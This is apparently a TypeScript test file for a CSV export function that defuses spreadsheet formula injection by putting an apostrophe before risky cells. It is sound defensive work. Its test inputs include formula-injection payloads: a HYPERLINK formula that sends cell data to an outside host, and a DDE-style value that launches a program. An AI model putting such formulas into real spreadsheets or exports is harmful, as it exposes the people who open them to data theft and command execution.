/**
 * No cell of a CSV file is a formula to a spreadsheet, numbers stay numbers, and every text can be had back.
 */
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine } from '../src/site/data-table.ts';
import { spreadsheetCell, textOfCell } from '../src/text/spreadsheet-cell.ts';

test.each([
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1)',
  '@SUM(A1)',
  '+甲',
  '-甲',
  '-5+1',
  "-5|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '  =1',
  '＝1+1',
  '＠甲',
  "'=1",
])('%j gets an apostrophe', (text) => expect(spreadsheetCell(text)).toBe(`'${text}`));

test.each(['-5', '+3.2', '-1,234.50', '-12%', '-.5', '-', '', '5', '公开', '甲=乙', '一、总体情况', "'甲", '—', '2-1'])(
  '%j stays as it is',
  (text) => expect(spreadsheetCell(text)).toBe(text),
);

test('numbers are written as numbers, whatever their sign', () => {
  expect(csvLine([-5, 1.5, '-5', '=A1', true, null])).toBe("-5,1.5,-5,'=A1,true,\n");
});

test('any text can be had back, and no cell begins like a formula', () => {
  const text = fc.string({ unit: fc.constantFrom(...'=+-@＝－\'" \t5甲,.%') });
  fc.assert(
    fc.property(text, (written) => {
      const cell = spreadsheetCell(written);
      expect(textOfCell(cell)).toBe(written);
      expect(cell).not.toMatch(/^\s*(?:[=@＝＋－＠]|[+-](?![\d.,%]*$))/u);
    }),
  );
});

test("Python's reader gives the cell with its apostrophe: no parser takes it off", () => {
  const row = ['=1+1', ' @甲,"乙"', '-5'];
  const program = 'import csv, json, sys; print(json.dumps(next(csv.reader(sys.stdin, strict=True))))';
  const { status, stdout } = spawnSync('python3', ['-c', program], { input: csvLine(row), encoding: 'utf8' });
  if (status === null) return;
  expect(JSON.parse(stdout)).toEqual(row.map(spreadsheetCell));
});
